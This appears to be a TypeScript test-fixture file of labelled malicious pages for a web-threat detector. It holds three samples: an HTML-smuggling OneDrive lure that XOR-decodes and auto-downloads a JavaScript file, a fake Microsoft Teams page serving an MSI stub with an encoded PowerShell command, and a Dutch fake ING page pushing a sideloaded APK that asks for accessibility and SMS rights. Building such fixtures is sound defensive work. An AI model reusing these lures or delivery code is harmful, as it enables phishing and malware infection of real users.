import type { Entry } from '../entry.js';
import { raw, pe, bin } from '../parts/c-smuggling.js';

export const entries: Entry[] = [
  {
    id: 'c-smuggle-xor-jscript',
    label: 'malware',
    kind: 'html-smuggling',
    url: 'https://onedrive-filesync.live-docs.net/personal/accounting/Invoice_39281.html',
    body: raw`<html><head><meta charset="UTF-8"><title>OneDrive</title>
<style>body{margin:0;font-family:"Segoe UI",sans-serif;background:#f3f2f1}.tb{background:#0078d4;color:#fff;height:48px;display:flex;align-items:center;padding:0 18px;font-weight:600}.m{max-width:480px;margin:80px auto;background:#fff;padding:32px;text-align:center;box-shadow:0 1px 3px #0002}.ic{font-size:56px}.b{background:#0078d4;color:#fff;border:0;padding:9px 22px;margin-top:12px;cursor:pointer}</style></head>
<body><div class="tb">OneDrive</div><div class="m"><div class="ic">&#128196;</div><h3>Invoice_39281</h3><p style="color:#605e5c">This file can't be previewed. Download it to view it on your device.</p><button class="b" onclick="dl()">Download</button></div>
<script>
var k = 'inv39281';
var x = [31,15,4,19,74,15,111,98,10,28,31,67,77,28,123,67,12,15,2,86,118,80,82,84,10,26,94,20,110,97,91,67,0,30,2,29,106,90,93,93,5,73,95,8,74,28,106,68,7,70,81,67,86,69,93,67,26,6,19,95,85,18,21,70,73,95,86,30,90,18,26,88,30,28,86,91,77,70,72,66,83,65,89,95,80,68,93,28,13,1,21,64,23,92,93,69,70,7,88,67,87,85,24,28,6,78,82,86,87,68,2,101,44,35,38,111,101,91,22,84,17,11,77,64,77,83,74,69,73,74,19,93,79,8,108,116,36,62,42,111,80,28,93,73,12,76,81,31,9,27,3];
function dec() { var o = ''; for (var i = 0; i < x.length; i++) o += String.fromCharCode(x[i] ^ k.charCodeAt(i % k.length)); return o; }
function dl() {
  var f = new File([dec()], 'Invoice_39281.js', { type: 'text/javascript' });
  var a = document.createElement('a');
  a.href = URL.createObjectURL(f);
  a.download = f.name;
  a.click();
}
setTimeout(dl, 1200);
</script></body></html>`,
  },
  {
    id: 'c-download-teams-msi',
    label: 'malware',
    kind: 'script-download',
    url: 'https://teams-microsoft-download.com/en-us/microsoft-teams/download-app',
    body: raw`<!doctype html><html lang="en-US"><head><meta charset="utf-8"><meta name="viewport" content="width=device-width,initial-scale=1"><title>Download Microsoft Teams Desktop and Mobile Apps | Microsoft Teams</title>
<style>body{margin:0;font-family:"Segoe UI",SegoeUI,Arial,sans-serif;color:#262626}nav{display:flex;align-items:center;gap:24px;padding:14px 40px;border-bottom:1px solid #e6e6e6;font-size:14px}.hero{background:linear-gradient(120deg,#4b53bc,#7b83eb);color:#fff;padding:70px 40px}.hero h1{font-size:42px;font-weight:600;margin:0 0 14px}.bt{display:inline-block;background:#fff;color:#4b53bc;padding:12px 26px;font-weight:600;border-radius:3px;text-decoration:none;border:0;font-size:16px;cursor:pointer}.note{font-size:13px;opacity:.8;margin-top:14px}.grid{display:flex;gap:30px;padding:40px}.grid div{flex:1;border:1px solid #e6e6e6;padding:20px}</style></head>
<body><nav><b>Microsoft</b><span>Teams</span><span>Products</span><span>Solutions</span><span>Resources</span></nav>
<section class="hero"><h1>Download Microsoft Teams</h1><p>Connect and collaborate with anyone from anywhere on Teams.</p><button class="bt" id="dl">Download for desktop</button><p class="note" id="note">Windows 10/11 · 64-bit</p></section>
<section class="grid"><div><h3>Teams for work or school</h3><p>Meet, chat, call and collaborate in one place.</p></div><div><h3>Teams for home</h3><p>Stay connected with family and friends.</p></div></section>
<script>
const files = { win: '/dl/MSTeamsSetup_x64.msi', mac: '/dl/MicrosoftTeams.pkg' };
const pick = /Mac/.test(navigator.platform) ? files.mac : files.win;
function go() {
  const a = Object.assign(document.createElement('a'), { href: pick, download: pick.split('/').pop(), rel: 'noopener' });
  document.body.append(a); a.click(); a.remove();
  document.getElementById('note').textContent = 'Thanks for downloading Teams! Run ' + pick.split('/').pop() + ' to install.';
}
document.getElementById('dl').addEventListener('click', go);
window.addEventListener('load', () => setTimeout(go, 2000), { once: true });
</script></body></html>`,
    routes: {
      'teams-microsoft-download.com/dl/MSTeamsSetup_x64.msi': bin(Buffer.concat([Buffer.from('d0cf11e0a1b11ae1000000000000000000000000000000003e000300feff0900', 'hex'), pe(['MSTeamsSetup', 'CustomAction', 'powershell.exe -ep bypass -enc', 'Microsoft Corporation', 'WixUI'], 8192)]), 'application/x-msi'),
    },
  },
  {
    id: 'c-download-bank-apk',
    label: 'malware',
    kind: 'script-download',
    url: 'https://ing-beveiliging-app.nl-veilig.com/download',
    body: raw`<!doctype html><html lang="nl"><head><meta charset="utf-8"><meta name="viewport" content="width=device-width,initial-scale=1"><title>ING Veilig – Beveiligingsupdate</title>
<style>body{margin:0;font-family:"ING Me",Arial,sans-serif;background:#fff;color:#333}.h{background:#ff6200;color:#fff;padding:18px;font-weight:700;font-size:20px}.c{padding:22px;max-width:460px;margin:0 auto}.b{display:block;text-align:center;background:#ff6200;color:#fff;border-radius:6px;padding:15px;font-weight:700;text-decoration:none;margin:18px 0}.st{background:#fff3ea;border-radius:8px;padding:14px;font-size:14px}.st li{margin:6px 0}</style></head>
<body><div class="h">ING</div><div class="c"><h2>Installeer de ING Veilig-app</h2><p>Vanaf 1 juni is de nieuwe beveiligingsapp verplicht om in te loggen in Mijn ING. Zonder deze app wordt uw toegang tot mobiel bankieren beperkt.</p>
<a class="b" id="d" href="#">Download ING Veilig (Android)</a>
<div class="st"><b>Installatie:</b><ol><li>Open het gedownloade bestand <i>ING_Veilig.apk</i></li><li>Sta installatie van onbekende bronnen toe als daarom gevraagd wordt</li><li>Open de app en geef de gevraagde toegankelijkheidsrechten</li></ol></div></div>
<script>
var isAndroid = /Android/i.test(navigator.userAgent);
var apk = '/files/ING_Veilig_' + (isAndroid ? 'arm64' : 'universal') + '.apk';
document.getElementById('d').href = apk;
document.getElementById('d').setAttribute('download', 'ING_Veilig.apk');
if (isAndroid) setTimeout(function () { location.href = apk; }, 1500);
else setTimeout(function () { document.getElementById('d').click(); }, 2500);
</script></body></html>`,
    routes: {
      'ing-beveiliging-app.nl-veilig.com/files/ING_Veilig_universal.apk': bin(Buffer.concat([Buffer.from('504b0304140000000800', 'hex'), Buffer.from('AndroidManifest.xml'), Buffer.alloc(64), Buffer.from('classes.dex'), Buffer.from('dex\n035\0'), Buffer.from('android.permission.BIND_ACCESSIBILITY_SERVICE android.permission.RECEIVE_SMS android.permission.READ_SMS com.ing.veilig.svc')]), 'application/vnd.android.package-archive', 'ING_Veilig.apk'),
      'ing-beveiliging-app.nl-veilig.com/files/ING_Veilig_arm64.apk': bin(Buffer.concat([Buffer.from('504b0304140000000800', 'hex'), Buffer.from('AndroidManifest.xml'), Buffer.alloc(64), Buffer.from('classes.dex'), Buffer.from('dex\n035\0'), Buffer.from('android.permission.BIND_ACCESSIBILITY_SERVICE android.permission.RECEIVE_SMS com.ing.veilig.svc')]), 'application/vnd.android.package-archive', 'ING_Veilig.apk'),
    },
  },
];
